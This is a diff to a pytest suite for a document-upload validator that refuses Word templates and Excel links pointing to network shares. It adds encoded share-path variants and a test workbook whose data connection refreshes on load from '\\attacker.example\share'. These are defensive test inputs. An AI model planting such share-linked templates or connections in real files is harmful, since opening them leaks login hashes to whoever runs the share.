@@ -4,6 +4,7 @@ login hash to whoever runs the share), a linked or embedded object, a hyperlink 
 a share, Excel's links to other workbooks. What the relationship parts (`*.rels`) say is
 read, in every one of them; ordinary web and e-mail links still pass."""
 
+import zipfile
 from io import BytesIO
 
 import pytest
@@ -55,8 +56,11 @@ def test_a_remote_template_is_refused(target):
     "target",
     [
         "file:///C:/Users/vanthu/AppData/Roaming/Microsoft/Templates/Mẫu công văn.dotx",
-        r"file:///D:\\Mau\\bao-cao.dotx",
-        r"C:\\Mau\\ke-hoach.dotm",
+        r"file:///D:\Mau\bao-cao.dotx",
+        r"C:\Mau\ke-hoach.dotm",
+        "file:///C:%5CUsers%5Cvanthu%5CMau.dotx",
+        "file:///Users/vanthu/Library/Group%20Containers/Normal.dotm",  # Word for Mac
+        "file://localhost/C:/Mau/bao-cao.dotx",
     ],
 )
 def test_a_template_on_the_authors_own_drive_is_accepted(target):
@@ -67,7 +71,15 @@ def test_a_template_on_the_authors_own_drive_is_accepted(target):
 
 
 @pytest.mark.parametrize(
-    "target", ["file:///\\\\host\\share\\t.dotx", "file://host/share/t.dotx", "C:x.dotm"]
+    "target",
+    [
+        r"file:///\\host\share\t.dotx",
+        "file:///%5C%5Chost%5Cshare%5Ct.dotx",
+        "file:////host/share/t.dotx",
+        "file://host/share/t.dotx",
+        "file://localhost//host/share/t.dotx",
+        "C:x.dotm",
+    ],
 )
 def test_a_template_on_a_share_is_refused_however_written(target):
     text = refusal("kh.docx", settings_linking(("attachedTemplate", target, True)))
@@ -177,3 +189,22 @@ def test_a_workbook_linking_to_another_workbook_is_refused():
         ),
     )
     assert "externalLink" in workbook_refusal(content)
+
+
+def test_a_workbook_with_data_connections_is_refused():
+    # A data connection reads a share or a server when refreshed (on opening, if it says
+    # so): the portal's template has none, and a filled-in copy needs none.
+    connections = (
+        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        '<connection id="1" name="q" type="6" refreshOnLoad="1">'
+        r'<textPr sourceFile="\\attacker.example\share\data.txt"/></connection></connections>'
+    )
+    buffer = BytesIO()
+    with (
+        zipfile.ZipFile(BytesIO(workbook())) as source,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for info in source.infolist():
+            target.writestr(info, source.read(info))
+        target.writestr("xl/connections.xml", connections)
+    assert "connections.xml" in workbook_refusal(buffer.getvalue())
